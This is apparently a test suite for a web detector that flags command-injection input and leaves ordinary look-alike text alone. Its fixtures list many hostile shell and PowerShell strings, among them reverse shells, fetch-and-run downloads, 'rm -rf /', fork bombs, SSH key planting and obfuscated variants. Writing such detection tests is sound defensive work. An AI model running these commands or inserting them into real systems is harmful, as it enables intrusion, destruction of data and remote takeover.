// Command-injection technique classes, one block each: shapes that must be found as cmdi (our own
// strings in the shape of each class) and look-alike ordinary input that must stay silent.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createDetector } from '@secotel/detect';
import type { DetectRequest, Finding } from '@secotel/detect';

const level1 = createDetector();
const level2 = createDetector({ level: 2 });

type Place = (value: string) => DetectRequest;
const inQuery: Place = (value) => ({ method: 'GET', path: '/search', query: { q: value } });
const inUserAgent: Place = (value) => ({ method: 'GET', path: '/', headers: { 'user-agent': value } });
const inReferer: Place = (value) => ({ method: 'GET', path: '/', headers: { referer: value } });
const inJson: Place = (value) => ({ method: 'POST', path: '/api', headers: { 'content-type': 'application/json' }, body: { note: value } });
const inCookie: Place = (value) => ({ method: 'GET', path: '/', cookies: { pref: value } });

function cmdi(findings: Finding[]): Finding[] {
  return findings.filter((f) => f.rule.category === 'cmdi');
}

function assertFound(values: readonly string[], places: readonly Place[] = [inQuery], detector = level1): void {
  for (const place of places) {
    for (const value of values) {
      const found = cmdi(detector.detect(place(value)));
      assert.ok(found.length > 0, `expected cmdi in ${JSON.stringify(value)}`);
    }
  }
}

function assertClean(values: readonly string[], places: readonly Place[] = [inQuery]): void {
  for (const place of places) {
    for (const value of values) {
      const found = cmdi(level1.detect(place(value)));
      assert.deepEqual(found.map((f) => `${f.rule.id} ${f.fragment}`), [], `unexpected cmdi in ${JSON.stringify(value)}`);
    }
  }
}

function ruleOf(value: string, place: Place = inQuery): string | undefined {
  return cmdi(level1.detect(place(value)))[0]?.rule.id;
}

describe('cmdi: a command at the start of a value', () => {
  it('finds command lines aimed at system files, hosts or shells', () => {
    assertFound([
      'cat /etc/hostname', 'ls -la /var/www/html', 'nc -e /bin/bash 10.1.2.3 9001', 'curl http://203.0.113.9/s.sh | bash',
      'wget http://203.0.113.9/a -O /tmp/a', 'find / -perm -4000 -type f', 'ping -c 4 192.0.2.10', 'head -n 5 /proc/self/status',
      'dd if=/dev/zero of=/tmp/x bs=1M', 'rm -rf /', 'tail --lines=20 /var/log/auth.log', 'cd /;ls',
    ], [inQuery, inUserAgent, inJson]);
  });

  it('finds unmistakable tools with flags or compound and versioned names', () => {
    assertFound(['uname -a', 'ifconfig eth0 -a', 'netstat -tulpn', 'kubectl get secrets -A', 'ansible-inventory --graph',
      'chef-solo recipe.rb', 'python3.11 exploit.py', 'perl5.36 -e print', 'nslookup attacker.example',
      'wget evil.example/x.sh', 'powershell Get-Process']);
  });

  it('finds tools run through prefixes such as time, nohup and strace', () => {
    assertFound(['time id', 'nohup whoami', 'strace -f ls /root', 'timeout 3 nc 192.0.2.1 80', 'watch -n 1 uptime -p',
      'time sleep 10', 'busybox nc 192.0.2.1 80']);
  });

  it('finds a command ended by a separator and binaries given by path', () => {
    assertFound(['id;', 'whoami|', 'uname;0', '/usr/bin/whoami', '/bin/ls|', '/usr/local/bin/helper -c id']);
  });

  it('stays silent on searches and prose that begin with a command word', () => {
    assertClean([
      'cat food for kittens', 'find a store near me', 'sleep 8 hours a night', 'more info', 'sort by price',
      'type 2 diabetes', 'ping pong table', 'set of 4 chairs', 'top 10 movies', 'time out', 'who is the president',
      'date night ideas', 'tail light replacement', 'kill bill vol 1', 'touch screen laptop', 'cut / paste', 'more / less',
      'copy / paste shortcut', 'watch https://video.example/watch?v=abc123', 'rm -rf node_modules',
      'ping 8.8.8.8 not working', 'powershell $env:PATH', 'bash $HOME variable', 'base64 decode online',
      'npm install react', 'apt-get install nginx', 'sudo apt install nginx', 'git clone tutorial', 'python 3.10 release notes',
      'nc state basketball', 'id card', 'ls 400 lexus', 'cd player', 'net worth', 'del Nuevo Mundo', 'time 10.30',
      'date 12.05.2024', 'echo "hello world"', '../../etc/passwd', '/etc/passwd', 'docs/passwd/reset', 'Cut orange quarters into crosswise slices about 1/8-inch thick.',
    ], [inQuery, inUserAgent, inJson]);
  });

  it('reports plain-argument command lines only at level 2', () => {
    assert.equal(ruleOf('ls notes.txt'), undefined);
    assert.equal(ruleOf('time who'), undefined);
    assertFound(['ls notes.txt', 'time who', 'pip -q install requests'], [inQuery], level2);
  });
});

describe('cmdi: separators and substitutions', () => {
  it('finds commands chained after ; | & && || and line breaks', () => {
    assertFound(['127.0.0.1; cat /etc/group', 'x|id', 'a && whoami', 'b || uname -a', 'c\nls -la', 'x;ps', '|netstat -an',
      'test@example.com"|nslookup attacker.example', "x';ping -c 2 192.0.2.1;'", "' ; id #", '); uname #',
      'a\nid', 'b\nsleep 7', 'c\nls -la'], [inQuery, inCookie, inJson]);
  });

  it('finds substitutions, process substitution and code-execution calls', () => {
    assertFound(['`id`', '$(uname)', 'a$(whoami)b', '<(ls /tmp)', '>(tee /tmp/o)', "system('ls -la')", 'passthru("id")',
      '`true`']);
  });

  it('finds shell escapes of editors and pagers', () => {
    assertFound([';vi -c:\\!ifconfig', 'less +F :!whoami']);
  });

  it('stays silent on parameter lists, URLs and blobs', () => {
    assertClean([
      'https://www.example.com/search?q=shoes&hostname=shop.example.com&ls=1', 'https://example.com/p?utm=x&id=5&type=cat',
      'a=1;b=2;id=3', 'sort=date|desc', 'format=dvd|cd', 'colors=red|blue|green', 'salt; pepper; oregano', 'the cat; the dog',
      'fish & chips', 'tom&jerry', 'rock && roll', 'this || that', 'a|b testing', 'R&D department', 'AT&T wireless',
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
      'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
      '3;0;-1,2,-94,-100,Mozilla/5.0 (X11; Linux x86_64),uaend,12147,20030107,en-US,Gecko,3,0,0,0,409366,1838;-1,2,-94,-101,do_en,dm_en,t_en',
      "I'd like to order", "O'Brien", 'Meet at 5; bring snacks & drinks', 'banner|top|id', 'name;email;ps',
      'Thanks\nid like a refund', 'Hello\ntelnet is insecure', 'Hi\nping me later', 'price;$5 off',
      'Tags: linux|bash|shell|scripting', 'Q: what does `ls -la` do?', 'Install with `pip install foo`; then run `foo --help`.',
      'C:\\Windows\\System32\\cmd.exe has stopped working', 'host: db.example.com; port: 5432', 'ps: thanks',
    ], [inQuery, inReferer, inCookie, inJson]);
  });
});

describe('cmdi: obfuscated command words', () => {
  it('undoes quote, backslash and variable splitting', () => {
    assertFound(["c''at /etc/hosts", '"w"hoami', "'l's -la", 'wh\\oami', 'who$@ami', 'un$*ame -a', 'cu${z}rl http://x.example',
      '$x/bin$x/ls', 'ca$()t /etc/hosts', 'l``s -la', 'pi>()ng 192.0.2.1', '\\ifconfig', "py''thon3 -V",
      '${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id', "u'n'a'm'e -a"]);
  });

  it('finds a variable assigned in the value and then run', () => {
    assertFound(['c=ca;d=t;$c$d /etc/hosts', 'p=uname&&$p', 'x=nc;$x -lvp 9001', 'a=nc&&$a -nlvp 4242']);
    assert.equal(ruleOf("c''at /etc/hosts"), 'cmdi-007');
  });

  it('finds brace expansion that spells a command', () => {
    assertFound(['{ls,-la,/}', '{,whoami}', '{uname,}', 'w{h,x}oami', '{p,x}s', '{,cat,/etc/hosts,}']);
  });

  it('finds globs that spell system files and binaries', () => {
    assertFound(['/e?c/h?sts', '/etc/gr[o]up', '/bin/c[a]t /etc/hosts', '/???/??ame -a', 'cat /[e]tc/*ss*d', '/u?r/b?n/w?oami']);
  });

  it('stays silent on field lists, route patterns and comments', () => {
    assertClean(['{id,name,email}', 'fields={id,name}', '/_next/static/chunks/pages/blog/[slug]-abc123.js', 'image/*',
      '/* comment */', '/api/items?id=1&sort=-price', 'Size: 8"x11"', 'That\'s two "O"s in goose']);
  });
});

describe('cmdi: shell-only syntax', () => {
  it('finds fork bombs, alias definitions, arithmetic and $IFS', () => {
    assertFound(['<!--#include virtual="/etc/hosts" -->', ':(){ :|:& };:', 'boom(){ boom|boom & };boom', 'x(){ x & x; }; x', 'alias ll=\'rm -rf ~\'', 'alias -p',
      '$[7*7]', '$((6*7))', 'cat${IFS}/etc/hosts']);
  });

  it('finds redirections to system files and descriptor duplication', () => {
    assertFound(['echo key >> ~/.ssh/authorized_keys', 'x > /etc/cron.d/job', 'cat</etc/hosts', 'sh -i 2>&1',
      'bash -i >& /dev/tcp/192.0.2.1/443 0>&1']);
  });

  it('finds SQLite CLI dot commands stacked after a statement', () => {
    assertFound(['1;.shell id', ';\\n.system whoami', "x';.databases"]);
  });

  it('stays silent on markup, comparisons and code', () => {
    assertClean(['<b>bold</b> &amp; <i>italic</i>', '<p>See <a href="/docs">the docs</a></p>', '2 > 1 and 3 < 4',
      'if (a < b && b > c) { return a; }', 'for (let i = 0; i < n; i++) {}', 'for i in range(10): print(i)',
      'if x == y then', 'alias for John Smith', 'alias: johnny', 'sleep(5) function in python', '${HOME} in bash',
      'price: $10 - $20', '$19.99 - $29.99', 'function f() { return g() | h(); }']);
  });
});

describe('cmdi: Windows cmd and PowerShell', () => {
  it('finds cmd.exe commands, variables and switches', () => {
    assertFound(['& dir c:\\', '| type C:\\Windows\\System32\\drivers\\etc\\hosts', '%COMSPEC% /c dir', 'cmd /c whoami /all',
      '| %SystemRoot%\\system32\\cmd.exe /c ver', '& ping -n 5 192.0.2.1 &', 'net user eve Passw0rd! /add',
      'reg query HKLM\\SYSTEM\\CurrentControlSet', 'certutil -urlcache -f http://x.example/a.exe a.exe', 'x|bcdedit /enum',
      'tasklist /svc', 'systeminfo | findstr /b OS']);
  });

  it('finds batch FOR and IF constructs', () => {
    assertFound(['FOR /F "tokens=*" %x IN (\'whoami\') DO echo %x', 'for %%f in (*.log) do del %%f', '& FOR %i IN (1,2) DO ping x',
      'IF EXIST C:\\boot.ini TYPE C:\\boot.ini', 'if /i "%a%" equ "1" echo one', 'IF NOT x==y GOTO end', 'if errorlevel 1 exit']);
    assert.equal(ruleOf('if errorlevel 1 exit'), 'cmdi-008');
  });

  it('finds PowerShell cmdlets, aliases and loader flags', () => {
    assertFound(['Invoke-WebRequest -Uri http://x.example/p.ps1 -OutFile p.ps1', ';iwr http://x.example/p.ps1',
      'iex (New-Object Net.WebClient).DownloadString("http://x.example/a")', 'Invoke-Expression -Command $payload',
      'powershell -enc SQBFAFgA', 'pwsh -NoProfile -ExecutionPolicy Bypass -File a.ps1', 'Get-ChildItem C:\\Users -Recurse',
      '| Get-Content C:\\secrets.txt', 'Start-Process cmd.exe -ArgumentList "/c calc"', '$env:ComSpec /c dir']);
  });

  it('stays silent on Windows paths and PowerShell-looking words in text', () => {
    assertClean(['C:\\Users\\john\\AppData\\Local\\Temp\\crash.dmp', 'C:\\Program Files\\App\\app.exe crashed at 0x0040',
      '%TEMP%\\setup.log', 'get-together ideas', 'test-connection speed', 'Set-Cookie guide', 'Q&A: how to dir',
      'invoke-expression explained'], [inQuery, inJson]);
  });
});

describe('cmdi: documents', () => {
  it('reads backtick spans in sentences and lists as Markdown, in any value', () => {
    assertClean(['- `npm test` - run all tests', '* `Date` (copied)', 'Default: `false`', 'exit normally.  Default=`true`',
      '(`export type`, `export interface`) are not present', '[`npm install` command](https://docs.example/install):',
      '1. `man bash` explains it', 'Clone the repo, `npm install`, and run `npm test`'], [inQuery, inJson]);
    assertFound(['`uname -a`', '"`id`"', '192.0.2.1 `sleep 5`', 'x`whoami`']);
  });

  it('does not read shell snippets in multi-line bodies as attacks', () => {
    const md = '## Install\n\nRun the script:\n\n```bash\ncurl -fsSL https://get.example.com | sh\ncat /etc/os-release\n```\n';
    assert.deepEqual(cmdi(level1.detect({ method: 'POST', path: '/posts', body: { md } })), []);
    assert.deepEqual(cmdi(level1.detect({ method: 'POST', path: '/pkg', body: { scripts: { build: 'rm -rf dist && tsc -p tsconfig.build.json' } } })), []);
    assert.deepEqual(cmdi(level1.detect({ method: 'POST', path: '/c', body: { text: 'Run `npm install` and then `npm start`' } })), []);
    assert.ok(cmdi(level1.detect({ method: 'POST', path: '/c', body: { host: '192.0.2.1 `sleep 5`' } })).length > 0);
  });
});

describe('cmdi: user agents', () => {
  it("reads ';' inside a user agent's comment as a product-token separator, not a shell one", () => {
    assertClean(['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
      'Mozilla/5.0 (compatible; curl/8.5; +https://example.com/bot)', 'Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0'], [inUserAgent]);
    assertFound(['Mozilla/5.0; curl http://203.0.113.7/a.sh | sh', 'Mozilla/5.0 (compatible; wget http://203.0.113.7/x | sh)',
      '() { :; }; /bin/bash -c "id"'], [inUserAgent]);
  });
});
